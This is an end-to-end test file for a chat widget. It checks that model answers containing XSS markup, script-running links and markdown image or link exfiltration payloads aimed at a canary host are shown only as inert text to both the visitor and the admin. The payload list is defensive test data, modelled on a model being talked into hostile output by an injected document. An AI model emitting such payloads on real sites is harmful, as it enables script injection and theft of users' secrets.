/** What a model writes is text: rows 44 to 46 of the threat list, as the visitor and as the admin see it. */
import { afterAll, afterEach, beforeAll, describe, expect, setDefaultTimeout, test } from "bun:test";
import type { Browser, Locator } from "playwright-core";
import { OWNER, setUpOwner } from "../helpers/admin-client.ts";
import { CANARY_HOST, launchBrowser, type Observed, openPage, originsOf } from "../helpers/browser.ts";
import { type Parley, startParley } from "../helpers/parley.ts";
import { type ScriptedProvider, startScriptedProvider } from "../helpers/scripted-provider.ts";
import { type WidgetPage, widgetOn } from "../helpers/widget-page.ts";
import { HANDBOOK_PDF, openConversation, signInBrowser } from "./helpers/backoffice.ts";

setDefaultTimeout(60_000);

const CAUGHT: string[] = [];
const canary = Bun.serve({
  port: 0,
  hostname: "127.0.0.1",
  fetch(request) {
    CAUGHT.push(request.url);
    return new Response("", { headers: { "access-control-allow-origin": "*" } });
  },
});
const CANARY = `http://${CANARY_HOST}:${canary.port}`;

/** What a hostile document talks a model into, by what it is after; `shown` must be readable as it stands. */
const HOSTILE: { name: string; text: string; shown: string[] }[] = [
  {
    name: "markup with handlers",
    text: "Before <img src=x onerror=__pwn=1> <svg onload=__pwn=1></svg> <script>__pwn=1</script> after [1]",
    shown: ["<img src=x onerror=__pwn=1>", "<svg onload=__pwn=1>", "<script>__pwn=1</script>"],
  },
  {
    name: "a block of markup",
    text: 'Before [1]\n\n<div onclick="__pwn=1"><iframe srcdoc="<script>parent.__pwn=1</script>"></iframe></div>\n\n<style>*{display:none}</style>\n\nafter',
    shown: ["<iframe srcdoc", "<style>*{display:none}</style>", "after"],
  },
  {
    name: "links that run",
    text: [
      "Choose [1]: [one](javascript:__pwn=1)",
      "[two](JaVa\tscript:__pwn=1)",
      "[three](data:text/html,<script>parent.__pwn=1</script>)",
      "[four](vbscript:__pwn=1)",
      "[five](//canary.test/x)",
      "[six](&#106;avascript:__pwn=1)",
      "<javascript:__pwn=1>",
      "[seven]\n\n[seven]: javascript:__pwn=1",
    ].join(" "),
    shown: ["one", "two", "three", "four", "five", "six"],
  },
  {
    name: "pictures that carry a secret off",
    text: `Look [1]: ![a](${CANARY}/?d=SECRET) ![b][r] <img src="${CANARY}/i?SECRET"> ![c](${CANARY}/c "t")\n\n[r]: ${CANARY}/r?SECRET`,
    shown: ["[image blocked]", "<img src="],
  },
  {
    name: "addresses that carry a secret off",
    text: `Read [1] <${CANARY}/SECRET> and [ ](${CANARY}/SECRET) and [the portal](${CANARY}/login) and ${CANARY}/bare @import url(${CANARY}/css); <link rel=prefetch href=${CANARY}/p>`,
    shown: [`${CANARY}/SECRET`, `the portal (${CANARY}/login)`, `${CANARY}/bare`],
  },
];

let browser: Browser;
let parley: Parley;
let model: ScriptedProvider;
let visitor: Observed;
let admin: Observed;
let widget: WidgetPage;

beforeAll(async () => {
  [browser, parley, model] = await Promise.all([launchBrowser(), startParley(), startScriptedProvider()]);
  const owner = await setUpOwner(parley);
  await owner.addDocument("handbook.pdf", await Bun.file(HANDBOOK_PDF).bytes());
  const settings = {
    provider: "openai",
    baseUrl: model.url("openai"),
    apiKey: "sk-test-4711-4711",
    model: "scripted",
  };
  await owner.send("PUT", "/api/admin/llm/config", settings);
  visitor = await openPage(browser);
  await visitor.page.goto(`${parley.url}/demo`);
  widget = widgetOn(visitor.page);
  await widget.open();
  await visitor.page.evaluate(WATCH);
  admin = await openPage(browser);
  await signInBrowser(admin.page, parley.url, OWNER.email, OWNER.password);
  // The browser's own remark on the first call, which asks whether somebody is signed in.
  expect(admin.complaints.splice(0)).toEqual([expect.stringContaining("401")]);
});
afterAll(async () => {
  await browser?.close();
  await model?.close();
  await parley?.remove();
  await canary.stop(true);
});
afterEach(() => {
  expect(CAUGHT).toEqual([]);
  for (const { requests, complaints } of [visitor, admin]) {
    expect(originsOf(requests)).toEqual([parley.url]);
    expect(complaints).toEqual([]);
  }
});

/** After every change of the widget: whether anything ran, and what elements an answer has that it may not have. */
const WATCH = `
  window.seen = { changes: 0, alive: [] };
  const root = document.querySelector("parley-widget").shadowRoot;
  new MutationObserver(() => {
    window.seen.changes++;
    if (window.__pwn !== undefined) window.seen.alive.push("__pwn");
    for (const found of root.querySelectorAll(
      ".answer :is(img, svg, script, style, iframe, link, object, embed, video, form, a)"
    )) window.seen.alive.push(found.outerHTML);
  }).observe(root, { subtree: true, childList: true, characterData: true, attributes: true });`;

const questionFor = (name: string) => `On which pier is the practice of the doctor? (${name})`;

describe.each(HOSTILE)("$name", ({ name, text, shown }) => {
  test("the visitor reads them as text, at every byte of the stream", async () => {
    const before = await visitor.page.evaluate<number>("window.seen.changes");
    // In a conversation of its own, since a follow-up would ask the model for a search first.
    if ((await widget.answers.count()) > 0) await widget.startOver();
    model.script({ pieces: [...text], split: "bytes" });

    await widget.ask(questionFor(name));
    await widget.complete.waitFor();

    expect(await visitor.page.evaluate<string[]>("window.seen.alive")).toEqual([]);
    expect(await visitor.page.evaluate<number>("window.seen.changes")).toBeGreaterThan(before);
    await expectReadable(widget.answers.last(), shown);
  });

  test("the admin reads them as text", async () => {
    const { page } = admin;
    await openConversation(page, questionFor(name));
    const answer = page.locator(".line.assistant .prose");

    await expectReadable(answer, shown);
    expect(await answer.locator("a, img, svg, script, style, iframe, link, form").count()).toBe(0);
    expect(await page.evaluate<boolean>("window.__pwn === undefined")).toBe(true);
  });
});

async function expectReadable(answer: Locator, shown: string[]): Promise<void> {
  const text = await answer.textContent();
  for (const part of shown) expect(text).toContain(part);
}
